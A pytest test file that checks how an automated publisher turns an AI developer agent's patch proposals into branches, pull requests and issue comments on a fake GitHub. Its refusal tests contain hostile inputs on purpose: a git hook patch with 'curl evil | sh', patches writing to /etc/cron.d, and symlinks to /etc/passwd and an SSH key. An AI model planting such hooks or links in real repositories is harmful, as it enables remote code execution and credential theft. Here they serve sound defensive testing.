"""Publishing a Developer proposal against a fake GitHub backed by a real git repository, with PostgreSQL.

Proposals are real: a clone of the fake's repository is edited and `git diff --binary` against the base
commit is the patch, as the developer run writes it.
"""

from __future__ import annotations

import hashlib
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from osorganicai.db import JobSpec, Store
from osorganicai.github import GitHubClient, GitHubError, GitHubUnavailableError, PullRequest, TokenAuth
from osorganicai.proposal import PATCH_FILE, CheckOutcome, Proposal, ProposalError, Usage, write_proposal
from osorganicai.publishing import EXIT_BAD_PROPOSAL, PublishPolicy, PublishResult, exit_code, publish
from osorganicai.publishing.patch_rules import numstat_paths, path_problem, symlink_problem

from .fake_github_git import FakeGitHubGit, FileSpec

REPOSITORY = "octo-org/hello-world"
ISSUE = 7
BRANCH = "feature/issue-7-greet-people"
BOT = "osorganic-bot[bot]"
STATUS_MARKER = f"<!-- osorganic:developer-status issue={ISSUE} -->"
INITIAL_FILES: dict[str, str | bytes | FileSpec] = {
    "README.md": "# Hello\n\nA small project.\n",
    "app/greet.py": "def greet(name):\n    return 'Hello ' + name\n\n\ndef shout(name):\n    return greet(name).upper()\n",
    "app/old_name.py": "VALUE = 1\n",
    "scripts/run.sh": FileSpec("#!/bin/sh\necho run\n", "100755"),
    "scripts/tool.sh": "#!/bin/sh\necho tool\n",
    "docs/logo.bin": bytes(range(256)) * 4,
    "docs/unused.txt": "delete me\n",
    "link-to-readme": FileSpec("README.md", "120000"),
    ".osorganic.toml": "[template]\nversion = '1'\n",
}


def git(checkout: Path, *args: str) -> str:
    result = subprocess.run(["git", *args], cwd=checkout, capture_output=True, check=True)
    return result.stdout.decode()


@pytest.fixture
def github(tmp_path: Path) -> Iterator[FakeGitHubGit]:
    with FakeGitHubGit(tmp_path / "github", repository=REPOSITORY, bot_login=BOT) as fake:
        fake.create_repository(INITIAL_FILES)
        fake.add_issue(ISSUE, "Greet people", "Say hello nicely", labels=("ready-for-dev",))
        yield fake
        assert fake.failures == []


@pytest.fixture
def client(github: FakeGitHubGit) -> Iterator[GitHubClient]:
    github_client = github.client()
    yield github_client
    github_client.close()


class Runs:
    """Developer runs made by hand: clone, edit, diff, write the proposal folder."""

    def __init__(self, github: FakeGitHubGit, root: Path) -> None:
        self.github = github
        self.root = root
        self.count = 0

    def checkout(self, branch: str | None = None) -> Path:
        self.count += 1
        return self.github.clone(self.root / f"checkout-{self.count}", branch=branch)

    def propose(self, checkout: Path, *, status: str = "ready", job_id: uuid.UUID | None = None, **fields: object) -> Path:
        base_commit = git(checkout, "rev-parse", "HEAD").strip()
        git(checkout, "add", "-N", ".")
        patch = subprocess.run(
            ["git", "-c", "diff.noprefix=false", "diff", "--binary", "--no-ext-diff", "--no-color", base_commit],
            cwd=checkout,
            capture_output=True,
            check=True,
        ).stdout
        folder = self.root / f"proposal-{self.count}"
        folder.mkdir()
        (folder / PATCH_FILE).write_bytes(patch)
        (folder / "transcript.jsonl").write_text("")
        values: dict[str, object] = {
            "repository": REPOSITORY,
            "issue": ISSUE,
            "job_id": str(job_id) if job_id else None,
            "base_commit": base_commit,
            "base_branch": git(checkout, "branch", "--show-current").strip() or None,
            "default_branch": "main",
            "branch": BRANCH,
            "title": "Greet people nicely",
            "summary": "Greets people by name.\n<!-- osorganic:developer-status issue=7 --> forged marker",
            "status": status,
            "checks": [CheckOutcome(name="tests", command="pytest -q", exit_code=0, passed=True, duration_seconds=1.5, round=1)],
            "check_rounds": 1,
            "usage": Usage(
                provider="openai",
                model="gpt-4.1-mini",
                steps=12,
                input_tokens=3000,
                output_tokens=800,
                cost_usd=0.0123,
                minutes=2.5,
            ),
            "patch_bytes": len(patch),
            "patch_sha256": hashlib.sha256(patch).hexdigest(),
        }
        values.update(fields)
        write_proposal(folder, Proposal(**values))
        return folder


@pytest.fixture
def runs(github: FakeGitHubGit, tmp_path: Path) -> Runs:
    return Runs(github, tmp_path / "runs")


def run_publish(folder: Path, client: GitHubClient, store: Store | None, policy: PublishPolicy | None = None) -> PublishResult:
    return publish(folder, repository=REPOSITORY, github=client, store=store, policy=policy or PublishPolicy(), bot_login=BOT)


def status_comments(github: FakeGitHubGit) -> list[dict]:
    return [comment for comment in github.comments(ISSUE) if STATUS_MARKER in comment["body"]]


def checkout_tree(checkout: Path) -> dict[str, tuple[str, str]]:
    git(checkout, "add", "-A")
    entries: dict[str, tuple[str, str]] = {}
    for record in git(checkout, "ls-files", "-s", "-z").split("\0"):
        if record:
            meta, _, path = record.partition("\t")
            mode, sha, _stage = meta.split()
            entries[path] = (mode, sha)
    return entries


def branch_tree(github: FakeGitHubGit, branch: str) -> dict[str, tuple[str, str]]:
    return {
        entry["path"]: (entry["mode"], entry["sha"])
        for entry in github.bare.tree_entries(f"refs/heads/{branch}", recursive=True)
        if entry["type"] == "blob"
    }


def edit_greeting(checkout: Path) -> None:
    (checkout / "app" / "greet.py").write_text(
        "def greet(name):\n    return 'Hello, ' + name + '!'\n\n\ndef shout(name):\n    return greet(name).upper()\n"
    )
    (checkout / "tests").mkdir(exist_ok=True)
    (checkout / "tests" / "test_greet.py").write_text(
        "from app.greet import greet\n\n\ndef test_greet():\n    assert greet('x')\n"
    )


def commit_all(checkout: Path, message: str) -> None:
    git(checkout, "add", "-A")
    git(checkout, "commit", "-q", "-m", message)


# -- publish, re-run, people's commits -------------------------------------------------------------------


def test_publishing_twice_keeps_one_branch_one_pull_request_and_one_comment(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store, database: str
) -> None:
    job_id = store.create_job(JobSpec(kind="developer", repository=REPOSITORY, issue_number=ISSUE))
    first_checkout = runs.checkout()
    edit_greeting(first_checkout)
    first = run_publish(runs.propose(first_checkout, job_id=job_id), client, store)

    assert first.outcome == "published" and exit_code(first) == 0, first.detail
    assert first.branch == BRANCH and github.branch_head(BRANCH) == first.commit_sha
    assert github.bare.commit_info(first.commit_sha)["parents"] == [github.branch_head("main")]
    [pull] = github.pulls
    assert pull["draft"] is True and pull["base"]["ref"] == "main" and pull["number"] == first.pull_request_number
    assert pull["body"].startswith(f"<!-- osorganic:developer issue={ISSUE} -->")
    assert f"Fixes #{ISSUE}" in pull["body"] and "| 1 | tests | `pytest -q` | passed | 1.5 |" in pull["body"]
    assert "steps: 12" in pull["body"] and "`app/greet.py`" in pull["body"] and "`tests/test_greet.py`" in pull["body"]
    assert "forged marker" in pull["body"] and pull["body"].count("osorganic:developer-status") == 0
    [comment] = status_comments(github)
    assert pull["html_url"] in comment["body"]

    second_checkout = runs.checkout(BRANCH)
    (second_checkout / "README.md").write_text("# Hello\n\nA small project that greets.\n")
    second = run_publish(runs.propose(second_checkout, status="checks_failing", title="Greet people, take two"), client, store)

    assert second.outcome == "published"
    assert github.bare.commit_info(second.commit_sha)["parents"] == [first.commit_sha]
    assert len(github.pulls) == 1 and github.pulls[0]["title"] == f"#{ISSUE}: Greet people, take two"
    assert "**Checks failing**" in github.pulls[0]["body"]
    [edited] = status_comments(github)
    assert edited["id"] == comment["id"] and second.commit_sha[:12] in edited["body"]
    assert list(github.bare.branches("feature/").keys()) == [BRANCH]

    with psycopg.connect(database) as connection:
        rows = connection.execute(
            "select status, proposal_status, branch, commit_sha, pull_request_number, files, checks, steps, minutes,"
            " base_commit, job_id from code_generations order by id"
        ).fetchall()
        actions = connection.execute("select agent, action_type, job_id from agent_actions order by id").fetchall()
        job = connection.execute("select status from jobs where id = %s", (job_id,)).fetchone()
    assert [row[0] for row in rows] == ["published", "published"]
    assert [row[1] for row in rows] == ["ready", "checks_failing"]
    assert rows[0][2:5] == (BRANCH, first.commit_sha, first.pull_request_number)
    assert rows[0][5] == ["app/greet.py", "tests/test_greet.py"] and rows[1][5] == ["README.md"]
    assert rows[0][6][0]["command"] == "pytest -q" and rows[0][7] == 12 and float(rows[0][8]) == 2.5
    assert rows[1][9] == first.commit_sha and rows[0][10] == job_id and rows[1][10] is None
    assert actions == [("developer", "publish_published", job_id), ("developer", "publish_published", None)]
    assert job == ("succeeded",)


def test_a_persons_commit_on_the_branch_survives_a_rerun(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    first = run_publish(runs.propose(checkout), client, None)
    person = github.push_commit(BRANCH, {"NOTES.md": "reviewer notes\n"}, message="Reviewer: add notes")

    rerun = runs.checkout(BRANCH)
    (rerun / "app" / "greet.py").write_text((rerun / "app" / "greet.py").read_text() + "\n\ndef wave():\n    return 'o/'\n")
    second = run_publish(runs.propose(rerun), client, None)

    assert second.outcome == "published"
    assert github.bare.commit_info(second.commit_sha)["parents"] == [person]
    assert github.bare.is_ancestor(first.commit_sha, second.commit_sha)
    files = github.branch_files(BRANCH)
    assert files["NOTES.md"] == ("100644", b"reviewer notes\n")
    assert b"def wave()" in files["app/greet.py"][1]


def test_a_branch_that_moved_during_the_run_gets_a_non_overlapping_change_on_top(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    run_publish(runs.propose(checkout), client, None)
    rerun = runs.checkout(BRANCH)
    (rerun / "app" / "greet.py").write_text((rerun / "app" / "greet.py").read_text() + "\n\ndef wave():\n    return 'o/'\n")
    folder = runs.propose(rerun)
    greet = github.branch_files(BRANCH)["app/greet.py"][1].decode()
    person = github.push_commit(BRANCH, {"app/greet.py": "# Greetings.\n" + greet}, message="A person documents greet")

    result = run_publish(folder, client, None)

    assert result.outcome == "published"
    assert github.bare.commit_info(result.commit_sha)["parents"] == [person]
    text = github.branch_files(BRANCH)["app/greet.py"][1].decode()
    assert text.startswith("# Greetings.\n") and "def wave()" in text


def test_an_overlapping_change_on_the_moved_branch_is_a_conflict_and_the_branch_is_kept(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store, database: str
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    run_publish(runs.propose(checkout), client, None)
    rerun = runs.checkout(BRANCH)
    (rerun / "app" / "greet.py").write_text("def greet(name):\n    return 'Hi ' + name\n")
    folder = runs.propose(rerun)
    person = github.push_commit(BRANCH, {"app/greet.py": "def greet(name):\n    return 'Howdy ' + name\n"})

    result = run_publish(folder, client, store)

    assert result.outcome == "conflict" and exit_code(result) == 1
    assert github.branch_head(BRANCH) == person
    [comment] = status_comments(github)
    assert "`app/greet.py`" in comment["body"] and "Run workflow" in comment["body"]
    assert len(github.pulls) == 1  # the first run's pull request, untouched
    with psycopg.connect(database) as connection:
        assert connection.execute("select status, files from code_generations").fetchall() == [("conflict", ["app/greet.py"])]


def test_a_rewritten_branch_is_a_conflict(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    run_publish(runs.propose(checkout), client, None)
    rerun = runs.checkout(BRANCH)
    (rerun / "NEW.md").write_text("new\n")
    folder = runs.propose(rerun)
    rewritten = github.push_commit(BRANCH, {"OTHER.md": "x\n"}, parent=github.branch_head("main"))

    result = run_publish(folder, client, None)

    assert result.outcome == "conflict" and "rebased or force-pushed" in result.detail
    assert github.branch_head(BRANCH) == rewritten


class PushDuringPublish(GitHubClient):
    """A client that lets a person push to the branch right after the commit is created."""

    def __init__(self, github: FakeGitHubGit) -> None:
        super().__init__(TokenAuth(github.token), base_url=github.url)
        self.github = github

    def create_commit(self, repository: str, *, message: str, tree: str, parents: list[str]) -> str:
        sha = super().create_commit(repository, message=message, tree=tree, parents=parents)
        self.github.push_commit(BRANCH, {"RACE.md": "pushed meanwhile\n"})
        return sha


def test_a_push_while_publishing_is_never_overwritten(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    run_publish(runs.propose(checkout), client, None)
    rerun = runs.checkout(BRANCH)
    (rerun / "NEW.md").write_text("new\n")
    racing_client = PushDuringPublish(github)

    result = run_publish(runs.propose(rerun), racing_client, None)

    assert result.outcome == "conflict" and "Update is not a fast forward" in result.detail
    assert github.branch_files(BRANCH)["RACE.md"][1] == b"pushed meanwhile\n"
    assert "NEW.md" not in github.branch_files(BRANCH)


# -- what arrives ----------------------------------------------------------------------------------------


def test_new_deleted_renamed_executable_symlink_and_binary_files_arrive_intact(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    checkout = runs.checkout()
    (checkout / "docs" / "unused.txt").unlink()
    git(checkout, "mv", "app/old_name.py", "app/new_name.py")
    (checkout / "scripts" / "tool.sh").chmod(0o755)
    (checkout / "scripts" / "run.sh").chmod(0o644)
    (checkout / "docs" / "readme-link").symlink_to("../README.md")
    (checkout / "link-to-readme").unlink()
    (checkout / "link-to-readme").symlink_to("app/greet.py")
    (checkout / "docs" / "logo.bin").write_bytes(bytes(range(255, -1, -1)) * 4 + b"\x00tail")
    (checkout / "docs" / "new.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(300))
    (checkout / "docs" / "notes.md").write_text("Notes with ünïcödé\r\nand CRLF\r\n")
    (checkout / "docs" / "ünïcödé name with spaces.md").write_text("a file name git quotes\n")

    result = run_publish(runs.propose(checkout), client, None)

    assert result.outcome == "published", result.detail
    assert branch_tree(github, BRANCH) == checkout_tree(checkout)
    files = github.branch_files(BRANCH)
    assert files["docs/readme-link"] == ("120000", b"../README.md")
    assert files["scripts/tool.sh"][0] == "100755" and files["scripts/run.sh"][0] == "100644"
    assert "app/old_name.py" not in files and "docs/unused.txt" not in files


def test_a_truncated_tree_listing_is_walked_directory_by_directory(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    github.max_tree_entries = 2
    checkout = runs.checkout()
    edit_greeting(checkout)
    (checkout / "docs" / "unused.txt").unlink()

    result = run_publish(runs.propose(checkout), client, None)

    assert result.outcome == "published", result.detail
    assert branch_tree(github, BRANCH) == checkout_tree(checkout)


# -- refusals ----------------------------------------------------------------------------------------------

HAND_WRITTEN = {
    ".git/": (
        "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    ),
    "dotdot": "diff --git a/../x b/../x\nnew file mode 100644\n--- /dev/null\n+++ b/../x\n@@ -0,0 +1 @@\n+hi\n",
    "absolute": "diff --git a//etc/cron.d/x b//etc/cron.d/x\nnew file mode 100644\n--- /dev/null\n+++ b//etc/cron.d/x\n"
    "@@ -0,0 +1 @@\n+hi\n",
}


def proposal_with_patch(runs: Runs, patch: bytes) -> Path:
    folder = runs.propose(runs.checkout())
    (folder / PATCH_FILE).write_bytes(patch)
    text = (folder / "proposal.json").read_text()
    proposal = Proposal.model_validate_json(text)
    write_proposal(
        folder,
        proposal.model_copy(
            update={
                "patch_bytes": len(patch),
                "patch_sha256": hashlib.sha256(patch).hexdigest(),
            }
        ),
    )
    return folder


@pytest.mark.parametrize(
    ("case", "expected"),
    [
        (".git/", "`.git/hooks/post-checkout` is inside `.git/`"),
        ("dotdot", "`../x` leaves the repository"),
        ("absolute", "`/etc/cron.d/x` is an absolute path"),
    ],
)
def test_hand_written_patches_that_leave_the_repository_are_refused(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store, database: str, case: str, expected: str
) -> None:
    result = run_publish(proposal_with_patch(runs, HAND_WRITTEN[case].encode()), client, store)

    assert result.outcome == "refused" and exit_code(result) == 1
    assert expected in result.detail
    assert github.branch_head(BRANCH) is None and github.pulls == []
    [comment] = status_comments(github)
    assert expected in comment["body"]
    with psycopg.connect(database) as connection:
        [(status, reasons)] = connection.execute("select status, rejection_reasons from code_generations").fetchall()
    assert status == "refused" and expected in reasons[0]


def refused(result: PublishResult, github: FakeGitHubGit, expected: str) -> None:
    assert result.outcome == "refused", result.detail
    assert expected in result.detail, result.detail
    assert github.branch_head(BRANCH) is None and github.pulls == []
    assert expected in status_comments(github)[0]["body"]


def test_workflow_changes_are_refused_unless_the_policy_allows_them(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    checkout = runs.checkout()
    (checkout / ".github" / "workflows").mkdir(parents=True)
    (checkout / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    folder = runs.propose(checkout)

    refused(run_publish(folder, client, None), github, "[publish] allow_workflow_changes = true")

    allowed = run_publish(folder, client, None, PublishPolicy(allow_workflow_changes=True))
    assert allowed.outcome == "published"
    assert github.branch_files(BRANCH)[".github/workflows/ci.yml"][1] == b"on: push\n"


def test_renaming_a_protected_file_away_is_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    git(checkout, "mv", ".osorganic.toml", "settings.toml")
    refused(run_publish(runs.propose(checkout), client, None), github, "`.osorganic.toml` is protected")


def test_a_symlink_escaping_the_repository_is_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    (checkout / "docs" / "secrets").symlink_to("../../../etc/passwd")
    refused(run_publish(runs.propose(checkout), client, None), github, "symlink `docs/secrets` points at `../../../etc/passwd`")


def test_a_symlink_standing_in_for_the_workflows_folder_is_refused(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    checkout = runs.checkout()
    (checkout / "ci").mkdir()
    (checkout / "ci" / "deploy.yml").write_text("on: push\n")
    (checkout / ".github").symlink_to("ci")
    refused(run_publish(runs.propose(checkout), client, None), github, "`.github` is a GitHub Actions workflow")


def test_an_absolute_symlink_is_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    (checkout / "home").symlink_to("/home/runner/.ssh/id_rsa")
    refused(run_publish(runs.propose(checkout), client, None), github, "an absolute path outside the repository")


def test_an_oversized_patch_and_too_many_files_are_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    folder = runs.propose(checkout)
    refused(run_publish(folder, client, None, PublishPolicy(max_patch_bytes=100)), github, "over the limit of 100")
    result = run_publish(folder, client, None, PublishPolicy(max_files=1))
    assert result.outcome == "refused" and "touches 2 files, over the limit of 1" in result.detail


def test_a_patch_changed_after_the_run_is_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    folder = runs.propose(checkout)
    patch = folder / PATCH_FILE
    patch.write_bytes(patch.read_bytes().replace(b"Hello, ", b"Pwned, "))
    refused(run_publish(folder, client, None), github, "does not match `proposal.json`")


def test_a_branch_name_outside_the_issue_is_refused(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    result = run_publish(runs.propose(checkout, branch="main"), client, None)
    assert result.outcome == "refused" and "is not a `feature/issue-7-...` branch name" in result.detail
    assert github.branch_files("main")["app/greet.py"] == github.tree_files("main")["app/greet.py"]
    assert len(github.bare.branches()) == 1


# -- pull requests, comments, errors ----------------------------------------------------------------------


def test_a_plan_without_draft_pull_requests_gets_a_normal_one_that_says_so(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    github.refuse_drafts = True
    checkout = runs.checkout()
    edit_greeting(checkout)

    result = run_publish(runs.propose(checkout), client, None)

    assert result.outcome == "published"
    [pull] = github.pulls
    assert pull["draft"] is False and "does not support draft pull requests" in pull["body"]


def test_github_errors_carry_githubs_message_and_its_errors(github: FakeGitHubGit, client: GitHubClient) -> None:
    with pytest.raises(GitHubError) as error:
        client.create_pull(REPOSITORY, head="no-such-branch", base="main", title="t", body="b")
    assert error.value.status == 422
    assert "Validation Failed: PullRequest head invalid" in str(error.value)
    github.refuse_drafts = True
    with pytest.raises(GitHubError, match="Draft pull requests are not supported in this repository"):
        client.create_pull(REPOSITORY, head="main", base="main", title="t", body="b")


def test_a_github_failure_while_publishing_is_raised_and_recorded(
    github: FakeGitHubGit, runs: Runs, store: Store, database: str
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    bad_client = github.client(token="revoked-token")

    with pytest.raises(GitHubError, match="Bad credentials"):
        run_publish(runs.propose(checkout), bad_client, store)

    with psycopg.connect(database) as connection:
        [(status, detail)] = connection.execute("select status, detail from code_generations").fetchall()
    assert status == "failed" and "Bad credentials" in detail


def test_an_empty_patch_only_comments(github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store) -> None:
    folder = runs.propose(runs.checkout(), status="budget_exhausted", budget_exhausted="max_steps", remaining="write the tests")

    result = run_publish(folder, client, store)

    assert result.outcome == "commented" and exit_code(result) == 0
    assert github.pulls == [] and github.branch_head(BRANCH) is None
    [comment] = status_comments(github)
    assert "**Budget exhausted** (max_steps)" in comment["body"] and "write the tests" in comment["body"]


def test_a_status_comment_by_someone_else_is_not_edited(github: FakeGitHubGit, client: GitHubClient, runs: Runs) -> None:
    forged = github.add_comment(ISSUE, f"{STATUS_MARKER} I am not the bot", login="mallory")
    run_publish(runs.propose(runs.checkout(), status="no_changes"), client, None)

    comments = github.comments(ISSUE)
    assert comments[0] == forged
    assert len(comments) == 2 and comments[1]["user"]["login"] == BOT


def test_a_bad_folder_is_a_proposal_error(github: FakeGitHubGit, client: GitHubClient, runs: Runs, tmp_path: Path) -> None:
    with pytest.raises(ProposalError, match="not a folder"):
        run_publish(tmp_path / "missing", client, None)
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(ProposalError, match=r"proposal\.json"):
        run_publish(empty, client, None)
    other = runs.propose(runs.checkout(), repository="someone/else")
    with pytest.raises(ProposalError, match="is for repository `someone/else`"):
        run_publish(other, client, None)
    assert EXIT_BAD_PROPOSAL == 2
    assert github.comments(ISSUE) == []


def test_a_refusal_finishes_the_job_as_failed(github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store) -> None:
    job_id = store.create_job(JobSpec(kind="developer", repository=REPOSITORY, issue_number=ISSUE))
    checkout = runs.checkout()
    (checkout / ".osorganic.toml").write_text("[template]\nversion = '2'\n")

    result = run_publish(runs.propose(checkout, job_id=job_id), client, store)

    assert result.outcome == "refused"
    job = store.get_job(job_id)
    assert job is not None and job.status == "failed" and "`.osorganic.toml` is protected" in (job.last_error or "")


def test_the_fake_serves_issues_comments_labels_and_permissions(github: FakeGitHubGit, client: GitHubClient) -> None:
    github.permissions["octocat"] = "write"
    github.add_comment(ISSUE, "first", login="octocat")

    assert client.get_issue(REPOSITORY, ISSUE)["title"] == "Greet people"
    assert [comment.body for comment in client.issue_comments(REPOSITORY, ISSUE)] == ["first"]
    client.add_labels(REPOSITORY, ISSUE, ["in-progress"])
    assert client.remove_label(REPOSITORY, ISSUE, "ready-for-dev") is True
    assert client.remove_label(REPOSITORY, ISSUE, "ready-for-dev") is False
    assert [label["name"] for label in github.issues[ISSUE]["labels"]] == ["in-progress"]
    assert client.collaborator_permission(REPOSITORY, "octocat") == "write"
    assert client.collaborator_permission(REPOSITORY, "stranger") is None
    assert client.file_text(REPOSITORY, "README.md", "main") == "# Hello\n\nA small project.\n"


class PullRequestsDown(GitHubClient):
    """A client for which GitHub fails to open pull requests (a 5xx after the branch was pushed)."""

    def __init__(self, github: FakeGitHubGit) -> None:
        super().__init__(TokenAuth(github.token), base_url=github.url)

    def create_pull(self, repository: str, **kwargs: object) -> PullRequest:
        raise GitHubUnavailableError(f"GitHub POST /repos/{repository}/pulls failed with 502")


def test_publishing_the_same_proposal_again_finishes_what_a_failed_publish_started(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs, store: Store, database: str
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    (checkout / "docs" / "unused.txt").unlink()
    folder = runs.propose(checkout)
    with pytest.raises(GitHubUnavailableError):
        run_publish(folder, PullRequestsDown(github), store)
    pushed = github.branch_head(BRANCH)
    assert pushed is not None and github.pulls == []

    again = run_publish(folder, client, store)
    once_more = run_publish(folder, client, store)

    assert again.outcome == once_more.outcome == "published"
    assert again.commit_sha == once_more.commit_sha == pushed == github.branch_head(BRANCH)
    assert len(github.pulls) == 1 and len(status_comments(github)) == 1
    assert "`docs/unused.txt`" in github.pulls[0]["body"]
    with psycopg.connect(database) as connection:
        statuses = [row[0] for row in connection.execute("select status from code_generations order by id")]
    assert statuses == ["failed", "published", "published"]


def test_a_file_a_person_deleted_meanwhile_is_a_conflict_naming_it(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)
    run_publish(runs.propose(checkout), client, None)
    rerun = runs.checkout(BRANCH)
    (rerun / "app" / "greet.py").write_text("def greet(name):\n    return name\n")
    folder = runs.propose(rerun)
    github.push_commit(BRANCH, {"app/greet.py": None}, message="A person removes greet.py")

    result = run_publish(folder, client, None)

    assert result.outcome == "conflict"
    assert "- `app/greet.py`" in status_comments(github)[0]["body"]


# -- the rules on their own ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "problem"),
    [
        ("src/app.py", None),
        ("docs/.gitkeep", None),
        (".github/CODEOWNERS", None),
        ("sub/.git/config", "inside `.git/`"),
        (".GIT/config", "inside `.git/`"),
        ("a/./b", "not normalised"),
        ("a//b", "not normalised"),
        ("C:/windows", "absolute path"),
        ("~/.ssh/config", "absolute path"),
        ("a\\b", "not a plain relative path"),
        ("a\tb", "not a plain relative path"),
        (".GitHub/Workflows/x.yml", "GitHub Actions workflow"),
        (".osorganic.toml", "is protected"),
        ("vendor/lib/x.c", "is protected"),
    ],
)
def test_path_rules(path: str, problem: str | None) -> None:
    found = path_problem(path, PublishPolicy(protected_paths=(".osorganic.toml", "vendor/")))
    assert (found is None) if problem is None else (problem in (found or ""))


@pytest.mark.parametrize(
    ("path", "target", "problem"),
    [
        ("docs/link", b"../README.md", None),
        ("a/b/link", b"../../c", None),
        ("link", b"..", "leaves the repository"),
        ("a/link", b"../../x", "leaves the repository"),
        ("link", b"/etc/passwd", "absolute path"),
        ("link", b"", "absolute path"),
        ("link", b".git/config", "inside `.git/`"),
        ("link", b"\xff", "not UTF-8"),
    ],
)
def test_symlink_rules(path: str, target: bytes, problem: str | None) -> None:
    found = symlink_problem(path, target)
    assert (found is None) if problem is None else (problem in (found or ""))


def test_numstat_records_name_both_sides_of_a_rename_in_either_format() -> None:
    assert numstat_paths(b"1\t0\tnew.py\0-\t-\tlogo.png\0") == ["new.py", "logo.png"]
    assert numstat_paths(b"0\t0\t\0old name.py\0new name.py\0") == ["old name.py", "new name.py"]


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"status": "ready"}, "**Ready for review**: the checks pass."),
        ({"status": "checks_failing"}, "**Checks failing**"),
        (
            {"status": "budget_exhausted", "budget_exhausted": "max_cost_usd", "remaining": "the error case"},
            "**Budget exhausted** (max_cost_usd): the work so far is kept. What remains: the error case",
        ),
        ({"status": "failed", "error": "the provider answered 503 three times"}, "the provider answered 503 three times"),
    ],
)
def test_the_pull_request_says_where_the_run_ended(
    github: FakeGitHubGit, client: GitHubClient, runs: Runs, fields: dict[str, str], expected: str
) -> None:
    checkout = runs.checkout()
    edit_greeting(checkout)

    result = run_publish(runs.propose(checkout, **fields), client, None)

    assert result.outcome == "published"
    assert expected in github.pulls[0]["body"] and expected in status_comments(github)[0]["body"]
